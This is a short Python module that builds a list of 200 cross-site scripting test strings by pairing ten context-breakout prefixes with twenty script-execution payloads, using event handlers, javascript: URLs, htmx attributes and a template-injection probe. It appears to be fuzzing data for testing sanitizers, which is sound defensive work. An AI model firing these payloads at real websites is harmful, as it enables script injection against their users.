"""Two hundred texts that try to run something in a browser: ten ways out of a text by twenty ways to run."""

from __future__ import annotations

from typing import Final

_RUN: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<style>@import 'javascript:alert(1)';</style><link rel=stylesheet href=data:,x onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</form>",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1) hx-on:click=alert(1)>x</div>",
    "<div hx-on::after-process-node='alert(1)' data-hx-on:load='alert(1)'>x</div>",
    "{{ ''.__class__ }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}<b onmouseover=alert(1)>",
    "javascript:alert(1)//<math><mi href=javascript:alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script src=data:,alert(1)></script>",
)
_OUT: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "--><!-- x -->",
    "</script>",
    "`\"'>",
    "</a></td>",
    "\u202e\x0b>",
)

PAYLOADS: Final = tuple(out + run for out in _OUT for run in _RUN)
